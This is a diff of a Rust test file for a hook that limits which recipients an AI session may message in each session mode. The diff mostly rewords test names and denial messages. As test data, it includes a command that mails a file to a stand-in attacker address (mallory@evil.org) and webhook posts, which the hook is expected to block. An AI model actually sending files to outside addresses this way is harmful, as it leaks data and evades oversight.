@@ -1,4 +1,4 @@
-//! Whom a session may write to, by its mode.
+//! The recipients that a session may write to, by its mode.
 
 use serde_json::{Value, json};
 
@@ -45,7 +45,7 @@ fn without_a_mode_only_the_tier_decides() {
 }
 
 #[test]
-fn an_interactive_session_writes_to_those_who_are_tagged_for_it() {
+fn an_interactive_session_may_only_write_to_tagged_contacts() {
     let sandbox = rendered(CONTACTS).with("CLAUDE_SESSION_MODE", "interactive");
     passes(&sandbox.before("t1", "mail -s x anna@example.net < f"));
     passes(&sandbox.after("t1", "mail -s x anna@example.net < f"));
@@ -54,27 +54,27 @@ fn an_interactive_session_writes_to_those_who_are_tagged_for_it() {
     let reason = denied(&sandbox.before("t3", "mail -s x mallory@evil.org < f"));
     assert_eq!(
         reason,
-        "In interactive mode messages go only to contacts of hosts.yaml that are tagged `claude_direct`, and `mallory@evil.org` is none: not a notification (`mail`). Leave the text in your report for a person to send."
+        "In interactive mode, messages may only go to contacts of hosts.yaml with the tag `claude_direct`, and `mallory@evil.org` is not one: a notification (`mail`) is denied. Put the text in your report for an operator to send."
     );
     let reason = denied(&sandbox.before("t4", "ssh ie01 'mail -s x bob@example.net < f'"));
     assert_eq!(
         reason,
-        "bob is written to as a draft only (`claude_draft`): not a notification (`mail`, on ie01 through ssh). Write the message to a file in the results folder (CLAUDEOPS_RESULTS_DIR) and say so in your report; a person sends it."
+        "Only drafts may be written to bob (`claude_draft`): a notification (`mail`, on ie01 through ssh) is denied. Write the message to a file in the results folder (CLAUDEOPS_RESULTS_DIR) and mention it in your report; an operator sends it."
     );
     // What only hosts.yaml makes an address of messages.
     for command in ["curl https://n8n.lan/webhook/tell", "wget --post-data=x https://chat.lan/post/1"] {
-        assert!(denied(&sandbox.before("t5", command)).contains("/…` is none"), "{command}");
+        assert!(denied(&sandbox.before("t5", command)).contains("/…` is not one"), "{command}");
     }
     assert_eq!(sandbox.sql("SELECT DISTINCT rule FROM hook_decisions WHERE verdict = 'deny'"), "mode");
 }
 
 #[test]
-fn by_itself_a_session_writes_to_nobody() {
+fn denies_messages_of_unattended_sessions() {
     for mode in ["mission", "Background "] {
         let sandbox = rendered(CONTACTS).with("CLAUDE_SESSION_MODE", mode);
         let reason = denied(&sandbox.before("t1", "bash -c 'apprise -b x \"$FAMILY_URL\"'"));
         let expected = format!(
-            "In {} mode no command writes to people: not a notification (`apprise`, through bash). opsctl itself tells the operators of budgets, of failures and of what stays unhealthy; say the rest in your report and on event lines.",
+            "In {} mode, commands may not send messages: a notification (`apprise`, through bash) is denied. opsctl itself notifies the operators of used-up budgets, failures and unhealthy services; put everything else in your report and on event lines.",
             mode.trim().to_lowercase()
         );
         assert_eq!(reason, expected);
@@ -84,18 +84,18 @@ fn by_itself_a_session_writes_to_nobody() {
 }
 
 #[test]
-fn a_mode_that_is_not_known_is_noted_and_the_strictest() {
+fn an_unknown_mode_is_reported_and_treated_as_background() {
     let sandbox = rendered(CONTACTS).with("CLAUDE_SESSION_MODE", "auto");
     let run = sandbox.before("t1", "ls -la");
     let note =
         "opsctl: CLAUDE_SESSION_MODE is `auto`, not interactive, mission or background; using background\n";
     assert_eq!((run.code, run.stderr.as_str()), (Some(0), note));
     let run = sandbox.before("t2", "mail -s x anna@example.net < f");
-    assert!(run.stderr.contains("In background mode no command writes to people"), "{run:?}");
+    assert!(run.stderr.contains("In background mode, commands may not send messages"), "{run:?}");
 }
 
 #[test]
-fn hosts_yaml_states_whom_a_mode_may_write_to_rendered_or_not() {
+fn hosts_yaml_states_the_recipients_of_a_mode_rendered_or_not() {
     let inventory = format!("{CONTACTS}  modes: {{interactive: anyone, mission: contacts}}\n");
     for is_rendered in [true, false] {
         let sandbox = |mode: &str| {
@@ -106,13 +106,13 @@ fn hosts_yaml_states_whom_a_mode_may_write_to_rendered_or_not() {
         passes(&sandbox("interactive").before("t1", "curl -d x https://ntfy.sh/y"));
         passes(&sandbox("mission").before("t1", "mail -s x anna@example.net < f"));
         let denial = denied(&sandbox("mission").before("t1", "curl https://n8n.lan/webhook/tell"));
-        assert!(denial.starts_with("In mission mode messages go only to contacts"), "{denial}");
+        assert!(denial.starts_with("In mission mode, messages may only go to contacts"), "{denial}");
         denied(&sandbox("background").before("t1", "mail -s x anna@example.net < f"));
     }
 }
 
 #[test]
-fn a_tool_that_sends_is_held_to_the_recipient_that_it_is_given() {
+fn the_recipients_of_a_sending_tool_are_checked() {
     let sandbox = rendered(CONTACTS).with("CLAUDE_SESSION_MODE", "interactive");
     let call = |tool: &str, arguments: Value| -> Run {
         let input = json!({"session_id": "s", "cwd": "/app", "tool_name": tool, "tool_input": arguments, "tool_use_id": "t"});
@@ -120,11 +120,14 @@ fn a_tool_that_sends_is_held_to_the_recipient_that_it_is_given() {
     };
     passes(&call("mcp__chat__post", json!({"channel": "#family", "text": "hi"})));
     let reason = denied(&call("mcp__chat__post", json!({"channel": "#general", "text": "hi"})));
-    assert!(reason.contains("`#general` is none: not a notification (`mcp__chat__post`)"), "{reason}");
+    assert!(
+        reason.contains("`#general` is not one: a notification (`mcp__chat__post`) is denied"),
+        "{reason}"
+    );
     let reason = denied(&call("mcp__chat__post", json!({"channel": ["#family", "#general"]})));
-    assert!(reason.contains("`#general` is none"), "{reason}");
+    assert!(reason.contains("`#general` is not one"), "{reason}");
     let reason = denied(&call("mcp__chat__shout", json!({"text": "hi"})));
-    assert!(reason.contains("cannot be told: its rule in hosts.yaml does not say"), "{reason}");
+    assert!(reason.contains("cannot be determined: its rule in hosts.yaml does not state"), "{reason}");
 }
 
 #[test]
@@ -145,7 +148,7 @@ fn the_secrets_of_an_address_reach_neither_the_denial_nor_the_ledger() {
 }
 
 #[test]
-fn explain_says_what_the_mode_says() {
+fn explain_gives_the_verdict_of_the_mode() {
     let sandbox = rendered(CONTACTS).with("CLAUDE_SESSION_MODE", "mission");
     let run = sandbox.opsctl(&["explain", "--json", "curl -d x https://chat.lan/post/1"], b"");
     let explained: Value = serde_json::from_str(&run.stdout).unwrap();
